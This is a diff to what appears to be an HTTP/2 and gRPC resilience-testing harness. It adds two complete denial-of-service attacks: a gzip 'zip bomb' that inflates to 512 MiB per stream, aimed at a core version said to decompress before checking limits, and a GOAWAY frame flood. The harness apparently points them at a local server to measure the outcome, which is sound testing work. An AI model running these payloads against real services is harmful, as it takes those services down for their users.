@@ -19,6 +19,7 @@ import socket
 import struct
 import threading
 import time
+import zlib
 
 import hpack
 
@@ -336,6 +337,52 @@ def made_you_reset(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, in_fl
     return c, out
 
 
+def zip_bomb(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, inflated=512 << 20,
+             streams=4):
+    """A gzip request message of about 0.5 MB that inflates to 512 MiB,
+    on a few streams: a core that inflates before it checks the message
+    limit (1.51 does) holds the whole of it."""
+    out = Outcome("zip_bomb")
+    co = zlib.compressobj(9, zlib.DEFLATED, 31)
+    chunk = b"\x0a" * (1 << 20)
+    comp = b"".join(co.compress(chunk) for _ in range(inflated >> 20)) + co.flush()
+    msg = b"\x01" + struct.pack(">I", len(comp)) + comp  # flag 1: compressed
+    enc = hpack.Encoder()
+    block = enc.encode([(":method", "POST"), (":scheme", "http"), (":path", GET),
+                        (":authority", "127.0.0.1:%d" % port)] +
+                       [hpack.NeverIndexedHeaderTuple(k, v) for k, v in (
+                           ("content-type", "application/grpc"), ("te", "trailers"),
+                           ("grpc-encoding", "gzip"),
+                           ("grpc-accept-encoding", "identity,gzip"))], huffman=False)
+    c = Conn(port, out)
+    deadline = out.started + seconds
+    for i in range(streams):
+        s = 1 + 2 * i
+        if not c.send(frame(HEADERS, END_HEADERS, s, block), deadline):
+            break
+        out.streams += 1
+        for off in range(0, len(msg), 16384):
+            p = msg[off:off + 16384]
+            last = off + 16384 >= len(msg)
+            if not c.take_credit(len(p), deadline) or \
+                    not c.send(frame(DATA, END_STREAM if last else 0, s, p), deadline):
+                break
+    out.note = "%d bytes inflating to %d MiB per stream" % (len(comp), inflated >> 20)
+    while time.monotonic() < deadline and out.ended < out.streams and not c.closed:
+        time.sleep(0.05)
+    return c, out
+
+
+def goaway_flood(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES):
+    """GOAWAY frames, over and over, on one connection: cheap to send, about
+    a microsecond of the 1.51 core's time each."""
+    out = Outcome("goaway_flood")
+    c = Conn(port, out)
+    chunk = frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)) * 1000
+    _loop(c, out, seconds, max_bytes, lambda: chunk)
+    return c, out
+
+
 def ping_flood(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES):
     """PINGs as fast as the socket takes them; the PONGs are never read."""
     out = Outcome("ping_flood")
@@ -558,6 +605,7 @@ ATTACKS = {
     "hpack_bomb": hpack_bomb, "empty_data": empty_data, "continuation": continuation,
     "settings_flood": settings_flood, "slowloris": slowloris,
     "unacked_settings": unacked_settings, "made_you_reset": made_you_reset,
+    "zip_bomb": zip_bomb, "goaway_flood": goaway_flood,
 }
 
 
